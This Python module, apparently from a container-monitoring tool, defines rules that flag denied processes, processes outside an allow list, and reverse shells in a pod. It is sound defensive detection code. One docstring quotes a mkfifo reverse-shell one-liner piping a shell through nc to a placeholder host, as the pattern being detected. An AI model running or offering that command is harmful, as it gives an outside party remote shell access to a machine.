"""The process rules: what runs in the pod, judged by its executable, its arguments and its streams."""

from __future__ import annotations

from collections.abc import Sequence

from trainguard.api.sample import Connection, ProcessInfo, Sample, SensorErrorKind, StdStream
from trainguard.detection import tools
from trainguard.detection.endpoints import is_loopback
from trainguard.detection.rules.base import NOTHING, Rule, RuleInput, connection_evidence, process_evidence
from trainguard.detection.violation import EvidenceValue, Finding

PROCESS_DENIED = "process.denied"
PROCESS_UNEXPECTED = "process.unexpected"
PROCESS_REVERSE_SHELL = "process.reverse-shell"


def _label(name: str, exe: str, argv: list[str]) -> str:
    return name or tools.basename(exe) or (argv[0][:64] if argv else "(unnamed)")


def process_denied(inp: RuleInput) -> Sequence[Finding]:
    """A process that matches a denied pattern (the policy's), or is a known miner or tunnel tool (the
    shipped list, unless useDefaultDenied is false), by any name it shows or its arguments. GPU
    processes are checked too: a process on the pod's GPU may be missing from its process list."""
    policy = inp.policy
    found: list[Finding] = []
    for p, verdict in zip(inp.sample.processes, inp.verdicts, strict=True):
        why = verdict.denied
        if why is not None:
            found.append(
                Finding(PROCESS_DENIED, _label(p.name, p.exe, p.argv), {**process_evidence(p), "pattern": why})
            )
    for g in inp.sample.gpus:
        for gp in g.processes:
            why = policy.gpu_process(gp)[0]
            if why is not None:
                evidence: dict[str, EvidenceValue] = {
                    "gpu": g.index,
                    "pid": gp.pid,
                    "process": gp.name,
                    "exe": gp.exe,
                    "pattern": why,
                }
                found.append(Finding(PROCESS_DENIED, _label(gp.name, gp.exe, gp.argv), evidence))
    return found or NOTHING


def process_unexpected(inp: RuleInput) -> Sequence[Finding]:
    """With processes.allowed: a process whose executable matches none of the patterns (a process
    converted from version 1 is judged by argv[0] and name). The plumbing containers are exempt."""
    policy = inp.policy
    if policy.allowed is None:
        return NOTHING
    found = [
        Finding(PROCESS_UNEXPECTED, _label(p.name, p.exe, p.argv), process_evidence(p))
        for p, verdict in zip(inp.sample.processes, inp.verdicts, strict=True)
        if verdict.unexpected
    ]
    return found or NOTHING


def _socket_lists_complete(s: Sample) -> bool:
    """Whether the sample lists every network socket of the pod: not when the sensor hit its socket cap
    (a workload can open sockets past it to push one out) or read no sockets at all."""
    return s.sensor.reader != "none" and not any(e.kind is SensorErrorKind.CONNECTION_CAP for e in s.sensor.errors)


def _piped(st: StdStream | None) -> bool:
    """A stream a shell can be piped through: a pipe, or a FIFO opened by its path (a `file` to the
    sensor; device files such as /dev/null, which everything shares, are not)."""
    return st is not None and (st.kind == "pipe" or (st.kind == "file" and not st.target.startswith("/dev/")))


def _relay(s: Sample, p: ProcessInfo) -> Connection | None:
    """The network connection a shell talks through when its output is the input of a process on the
    network whose output comes back as the shell's input, directly or through one more process (the
    mkfifo reverse shell: `cat f | sh -i 2>&1 | nc HOST PORT > f`). Matched on the standard streams'
    link texts (`pipe:[N]`, a FIFO's path); None when the shell is in no such loop."""
    readers: dict[str, list[ProcessInfo]] = {}
    for q in s.processes:
        if q.stdin is not None and _piped(q.stdin) and q.pid != p.pid:
            readers.setdefault(q.stdin.target, []).append(q)
    conns = {c.pid: c for c in s.connections if c.pid is not None and not is_loopback(c.remote.address)}
    stdin, stdout = p.stdin.target if p.stdin else "", p.stdout.target if p.stdout else ""
    for relay in readers.get(stdout, ()):
        c = conns.get(relay.pid)
        if c is None or relay.stdout is None or not _piped(relay.stdout) or relay.stdout.target == stdout:
            continue
        back = relay.stdout.target
        # One hop back: a process reading `back` on its stdin, or given it as an argument (`cat f`).
        hops = [*readers.get(back, ()), *(q for q in s.processes if back in q.argv[1:])]
        if back == stdin or any(h.stdout is not None and h.stdout.target == stdin for h in hops):
            return c
    return None


def process_reverse_shell(inp: RuleInput) -> Sequence[Finding]:
    """A shell or interpreter whose standard input or output is a network socket: a reverse shell,
    whatever the destination (Falco's "Redirect STDOUT/STDIN to Network Connection in Container");
    and, whatever it is called (a shell copied to another file name), a process whose standard input
    and output are one and the same network socket; and a shell or interpreter piped in a loop through a
    process on the network (`_relay`: mkfifo + nc). The socket is a network one when its inode is
    one of the pod's sockets with a peer or without, or when the sensor could not give its inode, or
    when the sample's socket lists are incomplete (what cannot be told apart is not excused)."""
    s = inp.sample
    found: list[Finding] = []
    complete: bool | None = None
    by_inode: dict[int, Connection] = {}
    unconnected: set[int] = set()
    for p in s.processes:
        streams = [(fd, st) for fd, st in (("stdin", p.stdin), ("stdout", p.stdout)) if st and st.kind == "socket"]
        if not streams:
            # Cheap tests first (most processes read /dev/null): stdin piped, stdout a pipe, not one and the same.
            if (
                p.stdin is not None
                and p.stdout is not None
                and p.stdout.kind == "pipe"
                and _piped(p.stdin)
                and p.stdin.target != p.stdout.target
                and (what := tools.shell_or_interpreter(p))
            ):
                relayed = _relay(s, p)
                if relayed is not None:
                    via = connection_evidence(s, relayed, interpreter=what, relay=relayed.pid)
                    found.append(Finding(PROCESS_REVERSE_SHELL, f"pid {p.pid}", {**via, **process_evidence(p)}))
            continue
        what = tools.shell_or_interpreter(p)
        if what is None:
            if len(streams) < 2 or streams[0][1].inode != streams[1][1].inode:
                continue
            what = "(stdin and stdout on one socket)"
        if complete is None:
            complete = _socket_lists_complete(s)
            by_inode = {c.inode: c for c in s.connections if c.inode}
            unconnected = {u.inode for u in s.unconnected if u.inode}
        for fd, st in streams:
            if complete and st.inode is not None and st.inode not in by_inode and st.inode not in unconnected:
                continue  # a socket the pod has no network socket for: a unix socket
            c = by_inode.get(st.inode) if st.inode is not None else None
            evidence = (
                connection_evidence(s, c, stream=fd, interpreter=what)
                if c is not None
                else {**process_evidence(p), "stream": fd, "interpreter": what, "socket": st.target}
            )
            if c is not None:
                evidence = {**evidence, **process_evidence(p)}
            found.append(Finding(PROCESS_REVERSE_SHELL, f"pid {p.pid}", evidence))
            break
    return found or NOTHING


RULES: tuple[Rule, ...] = (
    Rule(PROCESS_DENIED, "Critical", True, process_denied, "denied process"),
    Rule(PROCESS_UNEXPECTED, "Medium", False, process_unexpected, "process not allowed"),
    Rule(PROCESS_REVERSE_SHELL, "Critical", True, process_reverse_shell, "reverse shell"),
)
